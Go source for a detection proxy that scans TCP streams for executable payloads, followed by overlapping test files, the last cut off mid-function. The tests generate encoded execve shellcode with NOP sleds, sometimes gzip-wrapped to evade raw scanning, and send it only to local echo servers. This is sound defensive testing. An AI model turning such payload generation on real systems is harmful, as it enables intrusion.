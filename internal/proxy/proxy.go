// Package proxy implements an inline TCP proxy that taps the
// client-to-upstream byte stream through the windowed MEL detector — the
// network-appliance deployment the paper's venue implies. Traffic flows
// through unmodified; when a window trips the detector the proxy either
// logs the alert (monitor mode) or severs the connection (block mode).
package proxy

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/telemetry"
	"repro/internal/telemetry/events"
	"repro/internal/telemetry/tracing"
)

// DefaultIdleTimeout bounds how long either side of a proxied
// connection may stall before the proxy gives up on it — a stalled
// peer must not pin a goroutine forever.
const DefaultIdleTimeout = 2 * time.Minute

// Alert is one detection event on a proxied connection.
type Alert struct {
	// Conn identifies the connection (remote address string).
	Conn string
	// Offset is the window offset within the client-to-upstream stream.
	Offset int64
	// MEL and Threshold describe the verdict.
	MEL       int
	Threshold float64
	// ViewIndex and DecodeChain (content mode only) locate the verdict
	// within the decode front end's views: a non-empty chain names the
	// encoding layers ("gzip>base64", outermost first) peeled to expose
	// the flagged bytes; ViewIndex 0 with an empty chain is a raw-window
	// hit.
	ViewIndex   int
	DecodeChain string
	// TraceID links the alert to its scan's flight-recorder entry (zero
	// when the scan path was untraced).
	TraceID tracing.TraceID
}

// Config configures a Proxy.
type Config struct {
	// Detector performs the scanning; required.
	Detector *core.Detector
	// Scan, when set, overrides Detector.Scan for window verdicts —
	// the hook that routes proxied traffic through a shared worker
	// pool (server.Pool.ScanFunc()) so the proxy and the scan daemon
	// compete for the same bounded scheduler and share one verdict
	// cache. The Detector is still required for configuration
	// validation and remains the fallback when nil.
	Scan func([]byte) (core.Verdict, error)
	// Content, when set (and Scan is nil), scans each window through
	// this triage → decode → MEL pipeline instead of the bare detector,
	// so encoded payloads (gzip, base64, chunked, ...) are unwrapped in
	// flight; alerts then carry the decode chain. For pooled content
	// mode, set Scan to server.Pool.ScanContentFunc() instead.
	Content *content.Pipeline
	// Upstream is the address proxied connections are forwarded to.
	Upstream string
	// Window and Stride configure the stream scanner (defaults apply).
	Window, Stride int
	// IdleTimeout bounds each read/write on the proxied connections:
	// 0 selects DefaultIdleTimeout, negative disables deadlines
	// entirely (the pre-deadline behaviour).
	IdleTimeout time.Duration
	// Block severs a connection on its first alert when true; otherwise
	// the proxy only records alerts.
	Block bool
	// Metrics, when set, receives the proxy's counters (connections,
	// bytes, alerts, blocks) — point it at the scan service's registry
	// to expose one combined /metrics surface.
	Metrics *telemetry.Registry
	// Events, when set, journals every alert as a malicious wide event
	// (cause ok, verdict carried), so proxied-traffic detections land
	// in the same /debug/events stream as daemon scans.
	Events *events.Journal
	// Logf receives diagnostic output; nil silences it.
	Logf func(format string, args ...any)
}

// proxyMetrics are the registered instruments; all nil-safe to leave
// unregistered.
type proxyMetrics struct {
	conns   *telemetry.Counter
	active  *telemetry.Gauge
	bytes   *telemetry.Counter
	alerts  *telemetry.Counter
	blocked *telemetry.Counter
}

// Proxy is a running MEL-scanning TCP proxy.
type Proxy struct {
	cfg Config
	m   proxyMetrics

	mu     sync.Mutex
	alerts []Alert
	closed bool

	ln   net.Listener
	wg   sync.WaitGroup
	done chan struct{}
}

// New validates the configuration and returns an unstarted proxy.
func New(cfg Config) (*Proxy, error) {
	if cfg.Detector == nil {
		return nil, errors.New("proxy: nil detector")
	}
	if cfg.Upstream == "" {
		return nil, errors.New("proxy: upstream address required")
	}
	if cfg.Window <= 0 {
		cfg.Window = core.DefaultWindow
	}
	if cfg.Stride <= 0 {
		cfg.Stride = core.DefaultStride
	}
	if cfg.Stride > cfg.Window {
		return nil, fmt.Errorf("proxy: stride %d exceeds window %d", cfg.Stride, cfg.Window)
	}
	if cfg.Window > core.MaxWindow {
		return nil, fmt.Errorf("proxy: window %d: %w", cfg.Window, core.ErrWindowTooLarge)
	}
	if cfg.IdleTimeout == 0 {
		cfg.IdleTimeout = DefaultIdleTimeout
	}
	if cfg.Scan == nil {
		if cfg.Content != nil {
			cfg.Scan = cfg.Content.Scan
		} else {
			cfg.Scan = cfg.Detector.Scan
		}
	}
	if cfg.Logf == nil {
		cfg.Logf = func(string, ...any) {}
	}
	p := &Proxy{cfg: cfg, done: make(chan struct{})}
	if reg := cfg.Metrics; reg != nil {
		p.m = proxyMetrics{
			conns:   reg.Counter("proxy_connections_total", "proxied client connections"),
			active:  reg.Gauge("proxy_connections_active", "proxied connections in flight"),
			bytes:   reg.Counter("proxy_bytes_total", "client-to-upstream bytes scanned and forwarded"),
			alerts:  reg.Counter("proxy_alerts_total", "windows that tripped the detector"),
			blocked: reg.Counter("proxy_blocked_total", "connections severed in block mode"),
		}
	}
	return p, nil
}

// Serve accepts connections on ln until Close is called. It takes
// ownership of the listener.
func (p *Proxy) Serve(ln net.Listener) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return errors.New("proxy: already closed")
	}
	p.ln = ln
	p.mu.Unlock()

	for {
		conn, err := ln.Accept()
		if err != nil {
			select {
			case <-p.done:
				return nil // shut down deliberately
			default:
				return fmt.Errorf("proxy: accept: %w", err)
			}
		}
		p.wg.Add(1)
		go func() {
			defer p.wg.Done()
			p.handle(conn)
		}()
	}
}

// Close stops accepting, closes the listener, and waits for in-flight
// connections to finish.
func (p *Proxy) Close() error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	close(p.done)
	ln := p.ln
	p.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	p.wg.Wait()
	return err
}

// Alerts returns a copy of all alerts recorded so far.
func (p *Proxy) Alerts() []Alert {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Alert, len(p.alerts))
	copy(out, p.alerts)
	return out
}

// alertFrom converts one stream-scanner alert, carrying the content
// fields through when the scan path populated them.
func alertFrom(conn string, a core.StreamAlert) Alert {
	return Alert{
		Conn:        conn,
		Offset:      a.Offset,
		MEL:         a.Verdict.MEL,
		Threshold:   a.Verdict.Threshold,
		ViewIndex:   a.Verdict.ViewIndex,
		DecodeChain: a.Verdict.DecodeChain,
		TraceID:     a.Verdict.TraceID,
	}
}

func (p *Proxy) record(a Alert) {
	p.mu.Lock()
	p.alerts = append(p.alerts, a)
	p.mu.Unlock()
	if p.m.alerts != nil {
		p.m.alerts.Inc()
	}
	p.journalAlert(&a)
	line := fmt.Sprintf("ALERT %s window@%d MEL=%d tau=%.1f", a.Conn, a.Offset, a.MEL, a.Threshold)
	if a.DecodeChain != "" {
		line += fmt.Sprintf(" chain=%s view=%d", a.DecodeChain, a.ViewIndex)
	}
	if !a.TraceID.IsZero() {
		line += " trace=" + a.TraceID.String()
	}
	p.cfg.Logf("%s", line)
}

// journalAlert mirrors one alert into the wide-event journal. Alerts
// are malicious by definition, so they bypass the benign sampler and
// always land.
func (p *Proxy) journalAlert(a *Alert) {
	if p.cfg.Events == nil {
		return
	}
	e := events.Event{
		TraceID:     a.TraceID,
		StartUnixNs: time.Now().UnixNano(),
		MEL:         a.MEL,
		Threshold:   a.Threshold,
		Malicious:   true,
		ViewIndex:   -1,
	}
	if a.DecodeChain != "" || a.ViewIndex > 0 {
		e.Content = true
		e.ViewIndex = a.ViewIndex
		e.DecodeChain = a.DecodeChain
	}
	for i := range e.Stages {
		e.Stages[i] = -1
	}
	p.cfg.Events.Record(&e)
}

// idleConn bumps the connection deadline on every read and write, so
// a peer that stalls longer than the idle timeout fails the next I/O
// instead of pinning the handler goroutine forever. A non-positive
// timeout leaves the conn deadline-free.
type idleConn struct {
	net.Conn
	timeout time.Duration
}

func (c idleConn) Read(b []byte) (int, error) {
	if c.timeout > 0 {
		_ = c.Conn.SetReadDeadline(time.Now().Add(c.timeout))
	}
	return c.Conn.Read(b)
}

func (c idleConn) Write(b []byte) (int, error) {
	if c.timeout > 0 {
		_ = c.Conn.SetWriteDeadline(time.Now().Add(c.timeout))
	}
	return c.Conn.Write(b)
}

// handle proxies one client connection.
func (p *Proxy) handle(clientConn net.Conn) {
	if p.m.conns != nil {
		p.m.conns.Inc()
		p.m.active.Inc()
		defer p.m.active.Dec()
	}
	defer clientConn.Close()
	upstreamConn, err := net.Dial("tcp", p.cfg.Upstream)
	if err != nil {
		p.cfg.Logf("proxy: dial upstream: %v", err)
		return
	}
	defer upstreamConn.Close()

	client := idleConn{Conn: clientConn, timeout: p.cfg.IdleTimeout}
	upstream := idleConn{Conn: upstreamConn, timeout: p.cfg.IdleTimeout}

	scanner, err := core.NewStreamScannerFunc(p.cfg.Scan, p.cfg.Window, p.cfg.Stride)
	if err != nil {
		p.cfg.Logf("proxy: scanner: %v", err)
		return
	}

	var downWG sync.WaitGroup
	downWG.Add(1)
	go func() {
		defer downWG.Done()
		// Upstream-to-client direction is forwarded untouched; the idle
		// wrappers keep a stalled peer from pinning this copier.
		_, _ = io.Copy(client, upstream)
	}()

	name := clientConn.RemoteAddr().String()
	buf := make([]byte, 32*1024)
	blocked := false
	for !blocked {
		n, readErr := client.Read(buf)
		if n > 0 {
			if p.m.bytes != nil {
				p.m.bytes.Add(uint64(n))
			}
			seen := len(scanner.Alerts())
			if _, err := scanner.Write(buf[:n]); err != nil {
				p.cfg.Logf("proxy: scan: %v", err)
			}
			for _, a := range scanner.Alerts()[seen:] {
				p.record(alertFrom(name, a))
				if p.cfg.Block {
					blocked = true
				}
			}
			if blocked {
				break
			}
			if _, err := upstream.Write(buf[:n]); err != nil {
				break
			}
		}
		if readErr != nil {
			break
		}
	}
	// Flush the trailing partial window for monitoring completeness.
	seen := len(scanner.Alerts())
	if err := scanner.Flush(); err == nil {
		for _, a := range scanner.Alerts()[seen:] {
			p.record(alertFrom(name, a))
			if p.cfg.Block {
				blocked = true
			}
		}
	}
	if blocked {
		if p.m.blocked != nil {
			p.m.blocked.Inc()
		}
		p.cfg.Logf("proxy: blocked %s", name)
	}
	// Tear down both directions and wait for the downstream copier.
	upstreamConn.Close()
	clientConn.Close()
	downWG.Wait()
}

package proxy

import (
	"net"
	"testing"
	"time"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

// TestContentModeUnwrapsGzippedWorm: a worm window hidden behind a
// gzip layer passes a plain proxy untouched but trips a content-mode
// proxy, and the alert names the decode chain.
func TestContentModeUnwrapsGzippedWorm(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()

	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pipe, err := content.NewPipeline(det.ScanTraced, content.PipelineConfig{})
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{
		Detector: det,
		Content:  pipe,
		Upstream: upstream,
		Window:   2048,
		Stride:   512,
		Logf:     t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		if err := p.Serve(ln); err != nil {
			t.Errorf("serve: %v", err)
		}
	}()
	t.Cleanup(func() { p.Close() })

	// A small worm window, gzipped so the blob fits inside one scan
	// window of the stream.
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 31, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	cases, err := corpus.Dataset(31, 2, 700)
	if err != nil {
		t.Fatal(err)
	}
	var window []byte
	window = append(window, cases[0].Data...)
	window = append(window, w.Bytes...)
	window = append(window, cases[1].Data...)
	if raw, err := det.Scan(window); err != nil || !raw.Malicious {
		t.Fatalf("premise: raw window verdict = %+v err=%v, want malicious", raw, err)
	}
	blob := content.EncodeGzip(window)
	if len(blob) > 2048 {
		t.Fatalf("gzip blob %d bytes does not fit one window", len(blob))
	}
	if raw, err := det.Scan(blob); err != nil || raw.Malicious {
		t.Fatalf("premise: gzip blob flagged raw (err=%v); wrapper is not hiding it", err)
	}

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write(blob); err != nil {
		t.Fatal(err)
	}
	// Half-close the write side so the proxy flushes its partial window.
	if tc, ok := conn.(*net.TCPConn); ok {
		_ = tc.CloseWrite()
	}

	var alerts []Alert
	for i := 0; i < 200; i++ {
		alerts = p.Alerts()
		if len(alerts) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(alerts) == 0 {
		t.Fatal("gzip-wrapped worm produced no alerts in content mode")
	}
	a := alerts[0]
	if a.DecodeChain != "gzip" || a.ViewIndex < 1 {
		t.Fatalf("alert chain=%q view=%d, want gzip view >= 1", a.DecodeChain, a.ViewIndex)
	}
	if a.MEL <= int(a.Threshold) {
		t.Fatalf("alert inconsistent: %+v", a)
	}
}

package proxy

import (
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

// echoServer accepts connections and echoes bytes back until closed.
func echoServer(t *testing.T) (addr string, stop func()) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	done := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer conn.Close()
				_, _ = io.Copy(conn, conn)
			}()
		}
	}()
	return ln.Addr().String(), func() {
		close(done)
		ln.Close()
		wg.Wait()
	}
}

// startProxy builds and serves a proxy against upstream.
func startProxy(t *testing.T, upstream string, block bool) (*Proxy, string) {
	t.Helper()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{
		Detector: det,
		Upstream: upstream,
		Window:   2048,
		Stride:   512,
		Block:    block,
		Logf:     t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		if err := p.Serve(ln); err != nil {
			t.Errorf("serve: %v", err)
		}
	}()
	t.Cleanup(func() { p.Close() })
	return p, ln.Addr().String()
}

func TestConfigValidation(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := New(Config{Upstream: "x"}); err == nil {
		t.Error("nil detector should fail")
	}
	if _, err := New(Config{Detector: det}); err == nil {
		t.Error("missing upstream should fail")
	}
	if _, err := New(Config{Detector: det, Upstream: "x", Window: 10, Stride: 20}); err == nil {
		t.Error("stride > window should fail")
	}
}

func TestBenignTrafficPassesThrough(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, true)

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()

	msg := []byte("GET /research/papers.html HTTP/1.1\r\nHost: www.example.edu\r\n\r\n")
	if _, err := conn.Write(msg); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(msg))
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadFull(conn, echo); err != nil {
		t.Fatalf("echo read: %v", err)
	}
	if string(echo) != string(msg) {
		t.Errorf("echo mismatch: %q", echo)
	}
	if len(p.Alerts()) != 0 {
		t.Errorf("benign request alerted: %+v", p.Alerts())
	}
}

func TestWormIsDetectedAndBlocked(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, true)

	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 31, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	cases, err := corpus.Dataset(31, 2, 4000)
	if err != nil {
		t.Fatal(err)
	}
	var payload []byte
	payload = append(payload, cases[0].Data...)
	payload = append(payload, w.Bytes...)
	payload = append(payload, cases[1].Data...)

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_, _ = conn.Write(payload) // the proxy may sever mid-write; ignore
	// The connection must be closed by the proxy; reads eventually fail.
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 1024)
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := conn.Read(buf); err != nil {
			break
		}
	}

	// Wait for the proxy to record the alert.
	var alerts []Alert
	for i := 0; i < 100; i++ {
		alerts = p.Alerts()
		if len(alerts) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(alerts) == 0 {
		t.Fatal("worm in stream produced no alerts")
	}
	if alerts[0].MEL <= int(alerts[0].Threshold) {
		t.Errorf("alert inconsistent: %+v", alerts[0])
	}
	if !strings.Contains(alerts[0].Conn, "127.0.0.1") {
		t.Errorf("alert connection name %q", alerts[0].Conn)
	}
}

func TestMonitorModeForwardsDespiteAlert(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, false) // monitor only

	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 32, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// Pad to a full window so the alert fires without Flush.
	payload := append([]byte{}, w.Bytes...)
	for len(payload) < 2048 {
		payload = append(payload, ' ')
	}

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write(payload); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(payload))
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadFull(conn, echo); err != nil {
		t.Fatalf("monitor mode must still forward: %v", err)
	}
	var alerts []Alert
	for i := 0; i < 100; i++ {
		alerts = p.Alerts()
		if len(alerts) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(alerts) == 0 {
		t.Error("monitor mode should still record the alert")
	}
}

func TestCloseIdempotentAndServeAfterClose(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{Detector: det, Upstream: "127.0.0.1:1"})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if err := p.Serve(ln); err == nil {
		t.Error("serve after close should fail")
	}
}

func TestUpstreamDown(t *testing.T) {
	// Upstream refuses connections: the proxy logs and closes the client.
	p, addr := startProxy(t, "127.0.0.1:1", true)
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16)
	if _, err := conn.Read(buf); err == nil {
		t.Error("connection should be closed when upstream is down")
	}
	if len(p.Alerts()) != 0 {
		t.Error("no alerts expected")
	}
}

package proxy

import (
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/server"
	"repro/internal/shellcode"
	"repro/internal/telemetry"
	"repro/internal/telemetry/events"
)

// echoServer accepts connections and echoes bytes back until closed.
func echoServer(t *testing.T) (addr string, stop func()) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	done := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer conn.Close()
				_, _ = io.Copy(conn, conn)
			}()
		}
	}()
	return ln.Addr().String(), func() {
		close(done)
		ln.Close()
		wg.Wait()
	}
}

// startProxy builds and serves a proxy against upstream.
func startProxy(t *testing.T, upstream string, block bool) (*Proxy, string) {
	t.Helper()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{
		Detector: det,
		Upstream: upstream,
		Window:   2048,
		Stride:   512,
		Block:    block,
		Logf:     t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		if err := p.Serve(ln); err != nil {
			t.Errorf("serve: %v", err)
		}
	}()
	t.Cleanup(func() { p.Close() })
	return p, ln.Addr().String()
}

func TestConfigValidation(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := New(Config{Upstream: "x"}); err == nil {
		t.Error("nil detector should fail")
	}
	if _, err := New(Config{Detector: det}); err == nil {
		t.Error("missing upstream should fail")
	}
	if _, err := New(Config{Detector: det, Upstream: "x", Window: 10, Stride: 20}); err == nil {
		t.Error("stride > window should fail")
	}
}

// TestAlertsJournalAsWideEvents: every recorded alert lands in the
// wired journal as a malicious event carrying the verdict and chain.
func TestAlertsJournalAsWideEvents(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	j := events.New(events.Config{Capacity: 16, Shards: 1, SampleEvery: 1})
	p, err := New(Config{Detector: det, Upstream: "127.0.0.1:1", Events: j})
	if err != nil {
		t.Fatal(err)
	}
	a := Alert{Conn: "127.0.0.1:555", MEL: 31, Threshold: 22.5,
		ViewIndex: 1, DecodeChain: "gzip>base64"}
	a.TraceID[15] = 7
	p.record(a)
	p.record(Alert{Conn: "127.0.0.1:556", MEL: 28, Threshold: 22.5})

	evs := j.Snapshot(0)
	if len(evs) != 2 {
		t.Fatalf("journal holds %d events, want 2", len(evs))
	}
	var chained *events.Event
	for i := range evs {
		if !evs[i].Malicious {
			t.Fatalf("alert event not malicious: %+v", evs[i])
		}
		if evs[i].DecodeChain != "" {
			chained = &evs[i]
		}
	}
	if chained == nil || chained.MEL != 31 || chained.DecodeChain != "gzip>base64" ||
		chained.ViewIndex != 1 || chained.TraceID[15] != 7 {
		t.Fatalf("chained alert event wrong: %+v", chained)
	}
}

func TestBenignTrafficPassesThrough(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, true)

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()

	msg := []byte("GET /research/papers.html HTTP/1.1\r\nHost: www.example.edu\r\n\r\n")
	if _, err := conn.Write(msg); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(msg))
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadFull(conn, echo); err != nil {
		t.Fatalf("echo read: %v", err)
	}
	if string(echo) != string(msg) {
		t.Errorf("echo mismatch: %q", echo)
	}
	if len(p.Alerts()) != 0 {
		t.Errorf("benign request alerted: %+v", p.Alerts())
	}
}

func TestWormIsDetectedAndBlocked(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, true)

	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 31, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	cases, err := corpus.Dataset(31, 2, 4000)
	if err != nil {
		t.Fatal(err)
	}
	var payload []byte
	payload = append(payload, cases[0].Data...)
	payload = append(payload, w.Bytes...)
	payload = append(payload, cases[1].Data...)

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_, _ = conn.Write(payload) // the proxy may sever mid-write; ignore
	// The connection must be closed by the proxy; reads eventually fail.
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 1024)
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := conn.Read(buf); err != nil {
			break
		}
	}

	// Wait for the proxy to record the alert.
	var alerts []Alert
	for i := 0; i < 100; i++ {
		alerts = p.Alerts()
		if len(alerts) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(alerts) == 0 {
		t.Fatal("worm in stream produced no alerts")
	}
	if alerts[0].MEL <= int(alerts[0].Threshold) {
		t.Errorf("alert inconsistent: %+v", alerts[0])
	}
	if !strings.Contains(alerts[0].Conn, "127.0.0.1") {
		t.Errorf("alert connection name %q", alerts[0].Conn)
	}
}

func TestMonitorModeForwardsDespiteAlert(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	p, addr := startProxy(t, upstream, false) // monitor only

	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 32, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// Pad to a full window so the alert fires without Flush.
	payload := append([]byte{}, w.Bytes...)
	for len(payload) < 2048 {
		payload = append(payload, ' ')
	}

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write(payload); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(payload))
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadFull(conn, echo); err != nil {
		t.Fatalf("monitor mode must still forward: %v", err)
	}
	var alerts []Alert
	for i := 0; i < 100; i++ {
		alerts = p.Alerts()
		if len(alerts) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(alerts) == 0 {
		t.Error("monitor mode should still record the alert")
	}
}

func TestCloseIdempotentAndServeAfterClose(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{Detector: det, Upstream: "127.0.0.1:1"})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if err := p.Serve(ln); err == nil {
		t.Error("serve after close should fail")
	}
}

// TestIdleTimeoutDropsStalledClient: a client that connects and then
// goes silent is dropped once the configured idle timeout elapses,
// instead of pinning the handler goroutine forever.
func TestIdleTimeoutDropsStalledClient(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(Config{
		Detector:    det,
		Upstream:    upstream,
		IdleTimeout: 150 * time.Millisecond,
		Logf:        t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = p.Serve(ln) }()
	t.Cleanup(func() { p.Close() })

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Write nothing: the proxy's idle deadline must fire and close the
	// connection, surfacing as EOF/err on our read well before the
	// test's own 5s guard.
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16)
	if _, err := conn.Read(buf); err == nil {
		t.Fatal("stalled connection not dropped by idle timeout")
	} else if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Fatal("proxy never closed the stalled connection (our guard fired first)")
	}
}

// TestPooledScanSharesSchedulerAndMetrics routes proxy windows through
// a server.Pool via the Scan override and verifies both the verdicts
// and the shared metrics surface (pool counters and proxy counters in
// one registry).
func TestPooledScanSharesSchedulerAndMetrics(t *testing.T) {
	upstream, stopEcho := echoServer(t)
	defer stopEcho()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	reg := telemetry.NewRegistry()
	pool, err := server.NewPool(server.PoolConfig{Detector: det, Workers: 2, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()

	p, err := New(Config{
		Detector: det,
		Scan:     pool.ScanFunc(),
		Upstream: upstream,
		Window:   2048,
		Stride:   512,
		Metrics:  reg,
		Logf:     t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = p.Serve(ln) }()
	t.Cleanup(func() { p.Close() })

	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 33, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	payload := append([]byte{}, w.Bytes...)
	for len(payload) < 2048 {
		payload = append(payload, ' ')
	}

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(payload); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(payload))
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadFull(conn, echo); err != nil {
		t.Fatalf("monitor mode must still forward: %v", err)
	}
	conn.Close()
	// Close drains in-flight handlers, so all metrics are settled.
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}

	if alerts := p.Alerts(); len(alerts) == 0 {
		t.Fatal("pooled scan produced no alerts")
	}
	for name, min := range map[string]float64{
		"scans_total":             1, // pool executed the proxy's windows
		"proxy_connections_total": 1,
		"proxy_alerts_total":      1,
		"proxy_bytes_total":       float64(len(payload)),
	} {
		got, ok := reg.Value(name)
		if !ok {
			t.Fatalf("metric %s not registered", name)
		}
		if got < min {
			t.Errorf("metric %s = %v, want >= %v", name, got, min)
		}
	}
	if v, _ := reg.Value("proxy_connections_active"); v != 0 {
		t.Errorf("proxy_connections_active = %v after drain, want 0", v)
	}
}

func TestUpstreamDown(t *testing.T) {
	// Upstream refuses connections: the proxy logs and closes the client.
	p, addr := startProxy(t, "127.0.0.1:1", true)
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16)
	if _, err := conn.Read(buf); err == nil {
		t.Error("connection should be closed when upstream is down")
	}
	if len(p.Alerts()) != 0 {
		t.Error("no alerts expected")
	}
